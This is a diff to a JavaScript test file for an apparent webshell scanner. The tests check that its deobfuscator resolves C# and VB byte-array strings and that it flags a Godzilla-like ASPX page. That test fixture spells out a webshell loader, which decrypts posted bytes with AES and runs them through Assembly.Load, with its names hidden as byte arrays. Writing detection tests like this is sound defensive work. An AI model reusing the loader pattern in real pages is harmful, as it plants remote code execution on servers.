@@ -34,6 +34,17 @@ test("byte strings: every encoding and array spelling becomes its literal; the l
     `Encoding.GetEncoding(1252).GetString(new byte[] {${dec("Load")}})`,
   ];
   for (const f of forms) assert.equal(decodeByteStrings(f), '"Load"', f);
+  // GetString of a name given one byte-array literal and never written again.
+  assert.equal(
+    decodeByteStrings(
+      `byte[] k = new byte[] {${dec("Load")}};\nm = t.GetMethod(Encoding.ASCII.GetString(k));`,
+    ),
+    `byte[] k = new byte[] {${dec("Load")}};\nm = t.GetMethod("Load");`,
+  );
+  assert.equal(
+    decodeByteStrings(`Dim k As Byte() = New Byte() {${vbHex("Load")}}\nm = Encoding.ASCII.GetString(k)`),
+    `Dim k As Byte() = New Byte() {${vbHex("Load")}}\nm = "Load"`,
+  );
   // Joined with what follows, as other decoded literals are.
   assert.equal(foldLine(`Encoding.ASCII.GetString(new byte[]{${dec("Lo")}}) + "ad"`), '"Load"');
   // An array over several lines: the literal stands on its first line, the later lines stay (empty).
@@ -53,6 +64,11 @@ test("byte strings: bytes that are not printable text stay as they are", () => {
     "Encoding.Unicode.GetString(new byte[] { 0x4c, 0x6f, 0x61 })", // odd length: not UTF-16
     "Encoding.ASCII.GetString(new byte[] { 300, 301 })", // not bytes
     "new byte[] { 76, 111, 97, 100 }", // no GetString: data, not a string
+    // A named array written again (an element, or the whole name): its bytes at the call are unknown.
+    `var k = new byte[] {${dec("Load")}};\nk[0] = 77;\nvar m = Encoding.ASCII.GetString(k);`,
+    `var k = new byte[] {${dec("Load")}};\nk = Next();\nvar m = Encoding.ASCII.GetString(k);`,
+    "var bom = new byte[] { 0xEF, 0xBB, 0xBF };\nvar m = Encoding.UTF8.GetString(bom);",
+    "var m = Encoding.UTF8.GetString(buffer);",
   ];
   for (const k of kept) assert.equal(decodeByteStrings(k), k, k);
 });
@@ -63,7 +79,8 @@ test("Godzilla-like page whose Assembly, Load and payload names are byte arrays:
     "byte[] data = System.Convert.FromBase64String(Context.Request[pass]);",
     "data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);",
     `System.Type t = System.Type.GetType(System.Text.Encoding.UTF8.GetString(new byte[] {\n ${dec("System.Reflection.")},\n ${dec("Assembly")} }));`,
-    `if (Context.Session[Encoding.ASCII.GetString(new byte[]{ ${hex("payload")} })] == null) { Context.Session[Encoding.ASCII.GetString(new byte[]{ ${hex("payload")} })] = t.GetMethod(Encoding.Unicode.GetString(new byte[]{ ${dec("Load", "utf16le")} }), new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }`,
+    `byte[] slot = new byte[]{ ${hex("payload")} };`,
+    `if (Context.Session[Encoding.ASCII.GetString(slot)] == null) { Context.Session[Encoding.ASCII.GetString(new byte[]{ ${hex("payload")} })] = t.GetMethod(Encoding.Unicode.GetString(new byte[]{ ${dec("Load", "utf16le")} }), new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }`,
   ].join("\n");
   const d = run(swept(`${SITE}g.aspx`, inert(page, "C#")));
   assert.deepEqual(
@@ -71,7 +88,7 @@ test("Godzilla-like page whose Assembly, Load and payload names are byte arrays:
     ["webshell-godzilla"],
   );
   assert.equal(d[0].evidence.Rule, "godzilla-session-payload");
-  assert.equal(d[0].line, 9, "the line of the Session slot, after the array that spans three lines");
+  assert.equal(d[0].line, 10, "the line of the Session slot, after the array that spans three lines");
 });
 
 test("VB loader with GetMethod(New Byte() {…}) of posted bytes: a request-to-Assembly.Load loader", () => {
